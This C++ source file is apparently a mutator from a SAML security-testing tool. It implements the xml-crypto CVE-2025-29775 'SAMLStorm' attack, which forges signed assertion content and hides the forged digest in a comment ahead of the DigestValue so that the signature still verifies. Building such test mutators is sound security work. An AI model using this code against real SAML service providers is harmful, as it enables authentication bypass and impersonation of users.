// SPDX-License-Identifier: Apache-2.0
// xsw.digest_value_commented — xml-crypto CVE-2025-29775, "SAMLStorm" (XSW-DIGESTVALUE-COMMENT):
// the signed content is forged and its digest is put in a comment ahead of the original
// DigestValue text. Exclusive c14n drops the comment, so the SignatureValue still verifies; code
// that reads DigestValue's first child node takes the forged digest. xmldsig-core §4.3.3.5 (the
// DigestValue is the element's text) and xml-exc-c14n §3 (comments are not signed).
#include "mutators/xsw/xsw.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {

// Params: target (assertion | response: whose Signature), victim.
core::Result<void> xsw_digest_value_commented(Target& target) {
  namespace n = core::names;
  auto which = xsw::choice_param(target, "target", "assertion|response", "assertion");
  auto victim = xsw::victim(target);
  if (!which || !victim) {
    return core::fail(!which ? which.error() : victim.error());
  }
  xmlNode* element = *which == "response" ? xsw::response(target) : xsw::first_assertion(target);
  xmlNode* signature = element ? xsw::signature_of(element) : nullptr;
  auto values = signature ? core::descendants_named(signature, n::ns_dsig, "DigestValue") : std::vector<xmlNode*>{};
  if (values.empty()) {
    return core::fail(core::Reason::mutator_not_applicable, "the " + *which + " carries no signed Reference");
  }
  xsw::write_victim(element, *victim);
  auto digest = xsw::enveloped_digest(element);
  if (!digest) {
    return core::fail(digest.error());
  }
  xmlNode* comment = xmlNewDocComment(target.doc->get(), BAD_CAST digest->c_str());
  values.front()->children ? xsw::insert_before(values.front()->children, comment)
                           : xsw::append_child(values.front(), comment);
  return {};
}

}  // namespace samlt::idp::mutators
